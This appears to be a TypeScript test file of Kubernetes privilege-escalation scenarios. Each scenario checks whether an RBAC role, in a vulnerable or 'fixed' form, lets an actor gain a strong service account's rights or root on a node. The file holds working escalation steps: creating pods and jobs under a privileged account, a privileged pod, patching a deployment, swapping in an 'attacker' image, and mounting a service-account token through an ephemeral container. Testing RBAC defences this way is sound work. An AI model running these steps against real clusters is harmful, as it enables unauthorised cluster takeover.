/** Escalations through pods: whoever decides what runs in one has its service account, or its node. */
import type { Scenario } from './escalation.ts';
import { image, isStrong, podIsAdmin, podOf, podsPath, privilegedPod, rule, runsOnNode, templateOf } from './escalation.ts';

export const podScenarios: readonly Scenario[] = [
  {
    technique: 'create-pod',
    local: (fixed) => [rule(fixed ? 'get list' : 'create', 'pods')],
    perform: async (attempt) =>
      (await attempt.actor.send('POST', podsPath(attempt), podOf(attempt.namespace, 'attack', 'strong'))).status === 201 &&
      podIsAdmin(attempt, isStrong),
  },
  {
    technique: 'create-pod',
    variant: 'on-node',
    weakNamespace: true,
    labels: (fixed): Record<string, string> => (fixed ? { 'pod-security.kubernetes.io/enforce': 'baseline' } : {}),
    local: () => [rule('create', 'pods')],
    perform: async (attempt) =>
      (await attempt.actor.send('POST', podsPath(attempt), privilegedPod(attempt.namespace))).status === 201 && runsOnNode(attempt, 'root'),
  },
  {
    technique: 'create-workload',
    local: (fixed) => [rule(fixed ? 'update' : 'create', fixed ? 'jobs/status' : 'jobs', 'batch')],
    perform: async (attempt) => {
      const template = { spec: { ...templateOf('strong').spec, restartPolicy: 'Never' } };
      const job = { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'attack' }, spec: { template } };
      const { status } = await attempt.actor.send('POST', `/apis/batch/v1/namespaces/${attempt.namespace}/jobs`, job);
      return status === 201 && podIsAdmin(attempt, isStrong);
    },
  },
  {
    technique: 'update-workload',
    local: (fixed) => [rule('patch', 'deployments', 'apps', fixed ? 'other' : 'web')],
    given: (namespace) => [
      {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: { name: 'web', namespace },
        spec: { replicas: 1, selector: { matchLabels: { app: 'web' } }, template: templateOf('weak') },
      },
    ],
    perform: async (attempt) => {
      const change = { spec: { template: { spec: { serviceAccountName: 'strong' } } } };
      const { status } = await attempt.actor.patch(`/apis/apps/v1/namespaces/${attempt.namespace}/deployments/web`, change);
      return status === 200 && podIsAdmin(attempt, isStrong);
    },
  },
  {
    technique: 'update-pod',
    local: (fixed) => [rule('patch get', 'pods', '', fixed ? 'other' : 'runner')],
    given: (namespace) => [podOf(namespace, 'runner', 'strong')],
    perform: async (attempt) => {
      const change = { spec: { containers: [{ name: 'app', image: 'registry.example.com/attacker:2' }] } };
      const { status, body } = await attempt.actor.patch(`${podsPath(attempt)}/runner`, change, true);
      return status === 200 && body.spec.containers[0].image === 'registry.example.com/attacker:2' && podIsAdmin(attempt, isStrong);
    },
  },
  {
    technique: 'debug-pod',
    local: (fixed) => [rule('patch', 'pods/ephemeralcontainers', '', fixed ? 'other' : 'runner')],
    given: (namespace) => [podOf(namespace, 'runner', 'strong')],
    perform: async (attempt) => {
      const seen = await attempt.cluster.admin.json<{ spec: { volumes: { name: string }[] } }>('GET', `${podsPath(attempt)}/runner`);
      const volume = seen.spec.volumes.find(({ name }) => name.startsWith('kube-api-access-'))?.name;
      const container = { name: 'debug', image, targetContainerName: 'app', volumeMounts: [{ name: volume, mountPath: '/token' }] };
      const { status, body } = await attempt.actor.patch(`${podsPath(attempt)}/runner/ephemeralcontainers`, {
        spec: { ephemeralContainers: [container] },
      });
      return status === 200 && body.spec.ephemeralContainers.length === 1 && podIsAdmin(attempt, isStrong);
    },
  },
];
